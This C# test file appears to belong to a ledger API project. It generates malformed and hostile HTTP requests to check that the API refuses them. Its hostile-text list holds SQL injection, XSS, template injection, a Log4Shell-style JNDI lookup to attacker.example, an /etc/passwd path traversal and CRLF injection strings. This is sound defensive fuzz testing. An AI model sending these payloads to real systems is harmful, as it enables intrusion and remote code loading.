using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace RelationshipLedger.Api.Tests.Hostile;

/// <summary>
/// Generates malformed command requests from a seeded <see cref="Random"/>, so a failure reproduces. Each one
/// carries at least one fault the ledger certainly refuses — a wrong type, a value out of range, a missing or
/// unknown field, broken JSON or UTF-8, a body too deep or too large, a wrong media type, method, header or
/// customer id — and may carry hostile but well-formed text (injections, control characters, odd Unicode) in
/// its other fields, which must not change the answer.
/// </summary>
public sealed class HostileRequests(Random random, string customerId)
{
    internal static readonly string[] HostileText =
    [
        "'; DROP TABLE ledger.events; --",
        "\" OR 1=1 --",
        "') OR ('a'='a",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://attacker.example/x}",
        "../../../../etc/passwd",
        "%00%0d%0a",
        "\u0000",
        "a\u0000b",
        "\u0007\u001b[31mred",
        "\r\n\r\nHTTP/1.1 200 OK",
        "\u202Eevil\u202C",
        "\ud800",
        "🦆🦆🦆",
        "Ω≈ç√∫˜µ≤≥÷",
        "null",
        "NaN",
        "   ",
        "",
        "$where: '1 == 1'",
        "\\u0000",
    ];

    internal static readonly string[] NotJson =
    [
        "",
        "{",
        "}",
        "{\"a\":}",
        "{'single':'quotes'}",
        "{\"a\":1,}",
        "undefined",
        "NaN",
        "<xml/>",
        "a=1&b=2",
        "{\"a\":1}{\"b\":2}",
        "/* comment */ {}",
    ];

    private static readonly string[] NotAnObject = ["[]", "\"text\"", "1", "null", "true", "[{}]", "-0", "1e400"];

    private static readonly string[] WrongMediaTypes =
    [
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/x-ndjson",
        "application/octet-stream",
        "json",
    ];

    private static readonly string[] BadIfMatch =
    [
        "abc",
        "\"-1\"",
        "\"1.0\"",
        "\"99999999999999999999999\"",
        "W/abc",
        "\"\"",
        "\"0x10\"",
        "\"1\", \"2\"",
        "\"0\"",
        "\"999999\"",
    ];

    /// <summary>
    /// Ids the ledger refuses, URL-encoded. Not %00: the in-memory test server refuses to build such a request
    /// (Kestrel answers it 400 itself); a NUL in a registration's id comes with the hostile text.
    /// </summary>
    private static readonly string[] BadCustomerIds =
    [
        new string('x', 65),
        "has%20space",
        "x'%20OR%20'1'='1",
        "%C3%BC",
        "semi;colon",
        "a%2Fb",
        "%E2%80%AE",
        "%FF",
    ];

    private static readonly Func<HostileRequests, CommandShape, HostileRequest>[] Attacks =
    [
        (g, s) => g.WrongFieldValue(s),
        (g, s) => g.WrongFieldValue(s),
        (g, s) => g.WrongFieldValue(s),
        (g, s) => g.MissingRequired(s),
        (g, s) => g.UnknownField(s),
        (g, s) => g.Truncated(s),
        (g, s) => g.RandomBytes(s),
        (g, s) => g.InvalidUtf8(s),
        (g, s) => g.RawControlCharacter(s),
        (g, s) => g.DeepJson(s),
        (g, s) => g.NotAnObjectBody(s),
        (g, s) => g.NotJsonBody(s),
        (g, s) => g.TooLarge(s),
        (g, s) => g.WrongMediaType(s),
        (g, s) => g.MalformedIfMatch(s),
        (g, s) => g.LongIdempotencyKey(s),
        (g, s) => g.BadCustomerId(s),
        (g, s) => g.UnknownCustomer(s),
        (g, s) => g.WrongMethod(s),
    ];

    private int _number;

    public IReadOnlyList<HostileRequest> Generate(IReadOnlyList<CommandShape> shapes, int count)
    {
        ArgumentNullException.ThrowIfNull(shapes);
        var requests = new List<HostileRequest>(count);
        for (var i = 0; i < count; i++)
            requests.Add(Pick(Attacks)(this, Pick(shapes)));
        return requests;
    }

    private HostileRequest WrongFieldValue(CommandShape shape)
    {
        var field = Pick(shape.Fields);
        var body = Decorated(shape, except: field.Name);
        var wrong = Pick(WrongValues(field));
        body[field.Name] = wrong is null ? null : JsonNode.Parse(wrong);
        return Json(shape, $"wrong {field.Kind} for {field.Name}: {Shorten(wrong ?? "null")}", body);
    }

    private HostileRequest MissingRequired(CommandShape shape)
    {
        var body = Decorated(shape, except: null);
        var required = shape.Fields.Where(f => f.Required).ToArray();
        if (required.Length == 0)
        {
            // A profile change names at least one field: keep only business time and reason.
            foreach (var field in shape.Fields.Where(f => f.Name is not ("occurredAt" or "reason")))
                body.Remove(field.Name);
            return Json(shape, "no field to change", body);
        }
        var missing = Pick(required);
        body.Remove(missing.Name);
        return Json(shape, $"missing {missing.Name}", body);
    }

    private HostileRequest UnknownField(CommandShape shape)
    {
        var body = Decorated(shape, except: null);
        var name = Pick([
            "discount",
            "__proto__",
            "constructor",
            "$type",
            "eventId",
            "actor",
            "version",
            "Amount ",
            "",
        ]);
        if (shape.Fields.All(f => f.Name != "customerId"))
            name = Pick([name, "customerId"]);
        body[name] = JsonValue.Create(Pick(HostileText));
        return Json(shape, $"unknown field '{name}'", body);
    }

    private HostileRequest Truncated(CommandShape shape)
    {
        var bytes = Serialize(shape.ValidBody(customerId));
        return Raw(shape, "truncated JSON", bytes[..random.Next(bytes.Length)]);
    }

    private HostileRequest RandomBytes(CommandShape shape)
    {
        var bytes = new byte[random.Next(1, 256)];
        random.NextBytes(bytes);
        // "{}" and a few other random texts would be well-formed; a leading NUL never is.
        bytes[0] = 0;
        return Raw(shape, "random bytes", bytes);
    }

    private HostileRequest InvalidUtf8(CommandShape shape)
    {
        byte[][] invalid =
        [
            [0xFF],
            [0xC3, 0x28],
            [0xC0, 0xAF],
            [0xED, 0xA0, 0x80],
            [0xF8, 0x88, 0x80, 0x80, 0x80],
            [0x80],
        ];
        return Raw(shape, "invalid UTF-8 in a string", IntoAString(shape, Pick(invalid)));
    }

    private HostileRequest RawControlCharacter(CommandShape shape) =>
        Raw(shape, "an unescaped control character in a string", IntoAString(shape, [(byte)random.Next(0, 0x20)]));

    private HostileRequest DeepJson(CommandShape shape)
    {
        var depth = random.Next(17, 3000);
        var (open, close) = random.Next(2) == 0 ? ("[", "]") : ("{\"a\":", "}");
        var nested = new StringBuilder();
        for (var i = 0; i < depth; i++)
            nested.Append(open);
        nested.Append('1');
        for (var i = 0; i < depth; i++)
            nested.Append(close);
        var field = Pick(shape.Fields).Name;
        var text = Serialize(shape.ValidBody(customerId)) is var valid ? Encoding.UTF8.GetString(valid) : "";
        var body = $"{{\"{field}\":{nested},{text[1..]}";
        return Raw(shape, $"JSON {depth} deep in {field}", Encoding.UTF8.GetBytes(body));
    }

    private HostileRequest NotAnObjectBody(CommandShape shape) =>
        Raw(shape, "a body that is not an object", Encoding.UTF8.GetBytes(Pick(NotAnObject)));

    private HostileRequest NotJsonBody(CommandShape shape) =>
        Raw(shape, "a body that is not JSON", Encoding.UTF8.GetBytes(Pick(NotJson)));

    private HostileRequest TooLarge(CommandShape shape)
    {
        var body = shape.ValidBody(customerId);
        var field = Pick(shape.Fields.Where(f => f.Kind == FieldKind.Text).ToArray());
        body[field.Name] = new string('x', 64 * 1024 + random.Next(1, 100_000));
        return Json(shape, $"a body over 64 KiB ({field.Name})", body);
    }

    private HostileRequest WrongMediaType(CommandShape shape)
    {
        var mediaType = random.Next(8) == 0 ? null : Pick(WrongMediaTypes);
        return Request(
            shape,
            $"media type {mediaType ?? "missing"}",
            Serialize(shape.ValidBody(customerId)),
            mediaType,
            []
        );
    }

    private HostileRequest MalformedIfMatch(CommandShape shape)
    {
        var ifMatch = Pick(BadIfMatch);
        return Request(
            shape,
            $"If-Match {ifMatch}",
            Serialize(shape.ValidBody(customerId)),
            "application/json",
            [new("If-Match", ifMatch)]
        );
    }

    private HostileRequest LongIdempotencyKey(CommandShape shape)
    {
        var key = new string('k', random.Next(201, 4000));
        return Request(
            shape,
            $"an Idempotency-Key of {key.Length} characters",
            Serialize(shape.ValidBody(customerId)),
            "application/json",
            [new("Idempotency-Key", key)]
        );
    }

    private HostileRequest BadCustomerId(CommandShape shape)
    {
        var id = Pick(BadCustomerIds);
        if (!shape.Route.Contains("{customerId}", StringComparison.Ordinal))
        {
            var body = shape.ValidBody(customerId);
            body["customerId"] = Uri.UnescapeDataString(id);
            return Json(shape, $"customer id {id}", body);
        }
        return Request(
            shape,
            $"customer id {id} in the path",
            Serialize(shape.ValidBody(customerId)),
            "application/json",
            [],
            id
        );
    }

    /// <summary>A well-formed command for a customer nobody registered: a 404 (a registration: the registered customer, a 409).</summary>
    private HostileRequest UnknownCustomer(CommandShape shape) =>
        Request(
            shape,
            "an unknown customer",
            Serialize(shape.ValidBody(customerId)),
            "application/json",
            [],
            shape.Route.Contains("{customerId}", StringComparison.Ordinal) ? $"nobody-{random.Next():x}" : customerId
        );

    private HostileRequest WrongMethod(CommandShape shape)
    {
        var method = Pick(["PUT", "PATCH", "DELETE"]);
        return Request(
            shape,
            $"method {method}",
            Serialize(shape.ValidBody(customerId)),
            "application/json",
            [],
            method: method
        );
    }

    /// <summary>Values of JSON text (null: JSON null) that a field of this kind certainly refuses.</summary>
    internal static List<string?> WrongValues(FieldShape field)
    {
        var values = new List<string?> { "[]", "{\"a\":1}" };
        if (field.Kind != FieldKind.Flag)
            values.Add("true");
        if (field.Required)
            values.Add(null);
        switch (field.Kind)
        {
            case FieldKind.Text:
                values.AddRange(["42", "-1.5", "[\"a\"]"]);
                if (field.MaxLength is { } max)
                    values.Add(JsonSerializer.Serialize(new string('y', max + 1)));
                break;
            case FieldKind.Choice:
                values.AddRange(["0", "1", "-1", "1.5", "\"Pigeon\"", "\"\"", "\"1\"", "\"Visit; DROP TABLE x\""]);
                break;
            case FieldKind.Amount:
                values.AddRange([
                    "\"10\"",
                    "\"lots\"",
                    "-1",
                    "-0.01",
                    "1E13",
                    "1.00001",
                    "1e400",
                    "-1e400",
                    "79228162514264337593543950336",
                    "99999999999999999999999999999999999999",
                ]);
                break;
            case FieldKind.Count:
                values.AddRange([
                    "\"4\"",
                    "4.5",
                    "2147483648",
                    "-2147483649",
                    "1e400",
                    (field.Min - 1).ToString(CultureInfo.InvariantCulture),
                    (field.Max + 1).ToString(CultureInfo.InvariantCulture),
                ]);
                break;
            case FieldKind.Instant:
                values.AddRange([
                    "\"yesterday\"",
                    "\"2026-01-01\"",
                    "\"2026-01-01T09:00:00\"",
                    "\"2026-02-30T09:00:00Z\"",
                    "\"2026-01-01T25:00:00Z\"",
                    "\"9999-12-31T23:59:59Z\"",
                    $"\"{DateTimeOffset.UtcNow.AddDays(1):O}\"",
                    "\"1899-12-31T23:59:59Z\"",
                    "\"0001-01-01T00:00:00Z\"",
                    "1700000000",
                    "\"\"",
                ]);
                break;
            case FieldKind.Date:
                values.AddRange([
                    "\"31.12.1980\"",
                    "\"1980-13-01\"",
                    "\"1980-02-30\"",
                    "\"2999-01-01\"",
                    "\"1899-12-31\"",
                    "19801231",
                    "\"\"",
                ]);
                break;
            case FieldKind.Flag:
                values.AddRange(["\"true\"", "1", "0", "\"yes\""]);
                break;
        }
        return values;
    }

    /// <summary>The valid body with hostile but well-formed text in some text fields other than <paramref name="except"/>.</summary>
    private JsonObject Decorated(CommandShape shape, string? except)
    {
        var body = shape.ValidBody(customerId);
        foreach (var field in shape.Fields.Where(f => f.Kind == FieldKind.Text && f.Name != except))
            if (random.Next(3) == 0)
                body[field.Name] = random.Next(4) == 0 ? new string('z', random.Next(1, 5000)) : Pick(HostileText);
        return body;
    }

    /// <summary>The valid body with <paramref name="bytes"/> inside its first string value.</summary>
    private byte[] IntoAString(CommandShape shape, byte[] bytes)
    {
        var text = Serialize(shape.ValidBody(customerId));
        var colon = Array.IndexOf(text, (byte)':');
        var quote = Array.IndexOf(text, (byte)'"', colon);
        if (quote < 0)
            return [.. text[..^1], .. "\"x\":\""u8.ToArray(), .. bytes, (byte)'"', (byte)'}'];
        return [.. text[..(quote + 1)], .. bytes, .. text[(quote + 1)..]];
    }

    private HostileRequest Json(CommandShape shape, string attack, JsonObject body) =>
        Raw(shape, attack, Serialize(body));

    private HostileRequest Raw(CommandShape shape, string attack, byte[] body) =>
        Request(shape, attack, body, "application/json", []);

    private HostileRequest Request(
        CommandShape shape,
        string attack,
        byte[] body,
        string? mediaType,
        List<KeyValuePair<string, string>> headers,
        string? pathCustomerId = null,
        string method = "POST"
    )
    {
        var path = shape
            .Route.Replace("{customerId}", pathCustomerId ?? customerId, StringComparison.Ordinal)
            .Replace("{orderId}", "o-1", StringComparison.Ordinal)
            .Replace("{complaintId}", "c-1", StringComparison.Ordinal);
        return new HostileRequest(++_number, attack, method, path, body, mediaType, headers);
    }

    private static byte[] Serialize(JsonObject body) => JsonSerializer.SerializeToUtf8Bytes(body);

    private static string Shorten(string text) => text.Length > 60 ? $"{text[..60]}…" : text;

    private T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];
}
